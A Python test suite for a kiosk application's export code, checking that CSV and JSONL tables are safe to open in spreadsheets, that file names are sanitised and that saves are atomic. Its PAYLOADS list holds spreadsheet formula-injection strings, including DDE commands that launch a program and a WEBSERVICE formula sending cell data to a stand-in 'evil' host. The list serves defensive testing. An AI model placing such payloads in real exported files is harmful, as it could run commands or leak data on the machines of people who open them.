"""What is taken home: a table that a spreadsheet or a program opens rightly."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kiosk.desk.taking.completions import SOURCE
from kiosk.files.exports import (
    BOM,
    AlreadyThere,
    Column,
    Kind,
    NotSaved,
    Row,
    Table,
    as_it_was,
    csv_text,
    form_of,
    free_path,
    json_lines,
    safe_cell,
    safe_stem,
    save,
    written,
)
from kiosk.rules.names import clean

MADE = dt.datetime(2026, 4, 10, 12, 0, tzinfo=dt.UTC)
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil","click")',
    "=cmd|'/c calc'!A1",
    '=WEBSERVICE("http://evil/"&A1)',
    '=IMPORTXML("http://evil","//a")',
    '=DDE("cmd";"/c calc";"!A0")',
    "+1+1",
    "+cmd|'/c calc'!A0",
    "-2+3",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1)",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\t1",
    "\r=1+1",
    "\r1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200e=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    " \t =1+1",
]
"""What a spreadsheet would run, or might."""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_runs_as_a_formula(payload: str) -> None:
    safe = safe_cell(payload)
    assert safe.startswith("'" + payload[0])
    assert safe.replace("'", "") == payload.replace("'", ""), "nothing else is changed"
    said = csv_text(["name"], [[payload]])
    (head, row) = csv.reader(io.StringIO(said, newline=""))
    assert (head, row) == (["name"], [safe])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nor_does_a_heading(payload: str) -> None:
    (head,) = csv.reader(io.StringIO(csv_text([payload], []), newline=""))
    assert head == [safe_cell(payload)]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "Bob;{}", "Bob;{};x", "Bob; {}", "Bob\n{};x", "a;\r\n;{}"]
)
def test_nor_where_semicolons_part_the_cells(payload: str, around: str) -> None:
    """Excel in Quebec, France or Spain: a quote that is not the first letter of a cell is a
    letter like others, a semicolon parts cells, and a line break parts rows."""
    said = csv_text(["a", "name", "b"], [["1001", around.format(payload), "Local 1"]])
    for cell in re.split(r"[;\t\r\n]", said):
        begins = clean(cell.lstrip('"')).lstrip()
        assert not begins.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Ana Roy",
        "Ève",
        "1001",
        "036953",
        "2026-04-10",
        "a=b",
        "O'Brien",
        "'quoted",
        "Local 1-2",
        "x@example.org",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_what_is_not_text() -> None:
    zone = dt.timezone(-dt.timedelta(hours=4))
    row = [None, 0, 540, -3, 1.5, dt.date(2026, 4, 10), dt.datetime(2026, 4, 10, 9, tzinfo=zone)]
    said = csv_text(list("abcdefg"), [row]).splitlines()[1]
    assert said == ",0,540,-3,1.5,2026-04-10,2026-04-10T09:00:00-04:00"
    (line,) = json_lines(list("abcdefg"), [row]).splitlines()
    assert json.loads(line) == {
        "a": "", "b": 0, "c": 540, "d": -3, "e": 1.5,
        "f": "2026-04-10", "g": "2026-04-10T09:00:00-04:00",
    }  # fmt: skip


@given(st.text(max_size=30))
def test_what_a_spreadsheet_sees_never_begins_as_a_formula(text: str) -> None:
    seen = safe_cell(text).strip()
    assert not seen.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@given(st.text(st.sampled_from("a=+-@; \t\r\n\u200b＝é"), max_size=12))
@example("a;=1+1")
@example("a; =1+1")
@example("\u200b\n=1")
def test_what_was_made_safe_is_read_as_it_was(text: str) -> None:
    assert as_it_was(safe_cell(text)) == text


@pytest.mark.parametrize("text", ["'n Boer", "O'Hara", "rock 'n' roll; 'til", "''=1", "a;b"])
def test_an_apostrophe_that_people_wrote_stays(text: str) -> None:
    assert as_it_was(text) == text


@given(st.lists(st.lists(st.text(max_size=12), min_size=2, max_size=2), max_size=5))
def test_a_reader_gets_back_what_was_written(rows: list[list[str]]) -> None:
    said = csv_text(["one", "two"], rows)
    read = list(csv.reader(io.StringIO(said, newline="")))
    assert read == [["one", "two"], *([safe_cell(cell) for cell in row] for row in rows)]
    lines = json_lines(["one", "two"], rows).splitlines()
    assert [list(json.loads(line).values()) for line in lines] == rows


@given(st.lists(st.sampled_from(["", "x", ",", '"', " "]), max_size=5))
def test_a_single_column_keeps_its_empty_rows(rows: list[str]) -> None:
    said = csv_text(["one"], [[row] for row in rows])
    assert list(csv.reader(io.StringIO(said, newline=""))) == [["one"], *([row] for row in rows)]


def test_moments_that_are_the_same_are_each_on_their_own_clock() -> None:
    here = dt.datetime(2026, 4, 10, 9, tzinfo=dt.timezone(-dt.timedelta(hours=4)))
    there = here.astimezone(dt.UTC)
    assert here == there
    for said in (csv_text(["at"], [[here], [there]]), json_lines(["at"], [[here], [there]])):
        assert "T09:00:00-04:00" in str(said)
        assert "T13:00:00+00:00" in str(said)
    numbers = csv_text(["n"], [[3], [3.0], [None], [-1]]).splitlines()
    assert numbers == ["n", "3", "3.0", '""', "-1"]


def test_a_file_with_the_mark_is_read_as_utf_8(tmp_path: Path) -> None:
    path = tmp_path / "completions.csv"
    rows: list[Row] = [["Marie-Ève d’Amours", 'Señor; "Ñ",\nžluťoučký']]
    table = Table((Column("name", "name"), Column("local", "local")), rows)
    path.write_bytes(written(table, "csv", made=MADE))
    assert path.read_bytes().startswith(BOM.encode())
    with path.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [["name", "local"], *rows]
    assert b"\r\n" in path.read_bytes()
    assert not written(table, "csv", made=MADE, mark=False).startswith(BOM.encode())


def test_the_columns_that_reps_count_on() -> None:
    assert SOURCE.usual[:6] == (
        "member_number",
        "name",
        "local",
        "workshop",
        "offering",
        "completed_on",
    )
    assert SOURCE.columns["member_number"][0] is Kind.TEXT


@pytest.mark.parametrize(
    ("name", "form"),
    [("a.csv", "csv"), ("a.XLSX", "xlsx"), ("a.jsonl", "jsonl"), ("a.json", "json"), ("a", "csv")],
)
def test_the_ending_says_the_form(name: str, form: str) -> None:
    assert form_of(Path(name)) == form


# ---- names of files


@pytest.mark.parametrize("name", ["con", "NUL", "com1", "lpt9", "../../etc", "", "…", "a/b\\c:d"])
def test_a_name_is_safe_on_every_system(name: str) -> None:
    stem = safe_stem(name)
    assert stem.lower() not in ("con", "nul", "com1", "lpt9", "")
    assert set(stem) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")


@given(st.text(max_size=200), st.text(max_size=20))
def test_whatever_it_is_made_of(one: str, other: str) -> None:
    stem = safe_stem(one, other)
    assert 0 < len(stem) <= 85
    assert set(stem) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")


def test_a_free_name_is_one_that_nothing_has(tmp_path: Path) -> None:
    names = []
    for _ in range(3):
        path = free_path(tmp_path, "completions", ".csv")
        path.write_text("")
        names.append(path.name)
    assert names == ["completions.csv", "completions-2.csv", "completions-3.csv"]


def test_a_file_is_written_whole_or_not(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    save(path, b"one")
    with pytest.raises(AlreadyThere):
        save(path, b"two")
    save(path, b"three", overwrite=True)
    assert [file.name for file in tmp_path.iterdir()] == ["x.csv"]
    assert path.read_bytes() == b"three"
    with pytest.raises(NotSaved, match="is a folder"):
        save(tmp_path, b"four", overwrite=True)
    with pytest.raises(NotSaved, match="cannot be written"):
        save(path / "y.csv", b"five")


def test_a_link_stays_a_link(tmp_path: Path) -> None:
    held, link = tmp_path / "held.csv", tmp_path / "link.csv"
    held.write_bytes(b"old")
    held.chmod(0o600)
    link.symlink_to(held)
    save(link, b"new", overwrite=True)
    assert link.is_symlink()
    assert (held.read_bytes(), held.stat().st_mode & 0o777) == (b"new", 0o600)


def test_a_pipe_is_written_into(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    try:
        save(pipe, b"rows", overwrite=True)
        assert os.read(reader, 10) == b"rows"
    finally:
        os.close(reader)
    assert pipe.is_fifo()


def test_the_longest_name_that_a_disk_takes(tmp_path: Path) -> None:
    path = tmp_path / f"{'n' * 251}.csv"
    save(path, b"one")
    assert path.read_bytes() == b"one"
    with pytest.raises(NotSaved, match="cannot be written: The name is too long"):
        save(tmp_path / f"{'n' * 252}.csv", b"two")


def test_a_file_that_is_open_elsewhere_is_said_to_be(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As Windows refuses while Excel shows it."""
    path = tmp_path / "x.csv"
    save(path, b"one")

    def refuse(*_: object) -> None:
        raise PermissionError(13, "Access is denied")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(NotSaved, match=r"is in use\. Close it where it is open"):
        save(path, b"two", overwrite=True)
    assert path.read_bytes() == b"one"
    assert [file.name for file in tmp_path.iterdir()] == ["x.csv"]
